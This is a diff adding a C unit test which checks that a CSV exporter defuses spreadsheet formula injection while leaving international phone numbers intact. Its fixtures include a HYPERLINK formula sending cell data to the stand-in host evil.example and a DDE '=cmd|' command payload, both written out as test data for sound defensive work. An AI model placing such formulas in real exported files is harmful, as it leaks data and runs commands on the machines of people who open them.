@@ -463,6 +463,44 @@ static void csv_follows_the_language(void **s)
     assert_int_equal(vg_export_csv_separator_parse("|"), 0);
 }
 
+/* Review finding 9: every text cell that a spreadsheet would run is defused
+ * in CSV, ids included; a phone number in international form keeps its +. */
+static void csv_every_cell_guarded(void **s)
+{
+    char path[400], file[500];
+    char *text;
+    size_t n;
+    vg_export *x = NULL;
+    vg_export_opts o = {.format = VG_FORMAT_CSV, .private_dir = priv, .lang = "en"};
+    static const vg_xcol cols[] = {{"id", "Passport", VG_COL_ID, 0},
+                                   {"policy", "Policy", VG_COL_ID, 0},
+                                   {"phone", "Phone", VG_COL_ID, 0}};
+    static const char *rows[][3] = {
+        {"=HYPERLINK(\"http://evil.example/?\"&B3,\"Cliquez\")", "@SUM(1)", "+1 418 555-0147"},
+        {"-2+3", "+SUM(A1)", "+57 (1) 555.0191"},
+        {"\tx", " =cmd|' /C calc'!A0", "+1 418 555 0102 =cmd"}};
+    (void)s;
+    snprintf(path, sizeof path, "%s/ids-csv", dir);
+    o.path = path;
+    assert_int_equal(vg_export_open(&x, &o), VG_OK);
+    assert_int_equal(vg_export_sheet(x, "p", "P"), VG_OK);
+    assert_int_equal(vg_export_table(x, "p", NULL, cols, 3, VG_XT_LIST), VG_OK);
+    for (size_t i = 0; i < 3; i++)
+        assert_int_equal(vg_export_row(x, (vg_xcell[]){VG_XTEXT(rows[i][0]), VG_XTEXT(rows[i][1]),
+                                                       VG_XTEXT(rows[i][2])}),
+                         VG_OK);
+    assert_int_equal(vg_export_commit(x), VG_OK);
+    vg_export_free(x);
+    snprintf(file, sizeof file, "%s/01-p.csv", path);
+    assert_non_null(text = slurp(file, &n));
+    assert_non_null(strstr(text,
+                           "\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B3,\"\"Cliquez\"\")\","
+                           "'@SUM(1),+1 418 555-0147\r\n"));
+    assert_non_null(strstr(text, "\r\n'-2+3,'+SUM(A1),+57 (1) 555.0191\r\n"));
+    assert_non_null(strstr(text, "\r\n'\tx,\"' =cmd|' /C calc'!A0\",'+1 418 555 0102 =cmd\r\n"));
+    free(text);
+}
+
 static void failure_leaves_nothing(void **s)
 {
     char path[400];
@@ -543,6 +581,7 @@ int main(void)
         cmocka_unit_test(json_same_content),
         cmocka_unit_test(locale_never_leaks_into_files),
         cmocka_unit_test(csv_follows_the_language),
+        cmocka_unit_test(csv_every_cell_guarded),
         cmocka_unit_test(failure_leaves_nothing),
         cmocka_unit_test(references),
     };
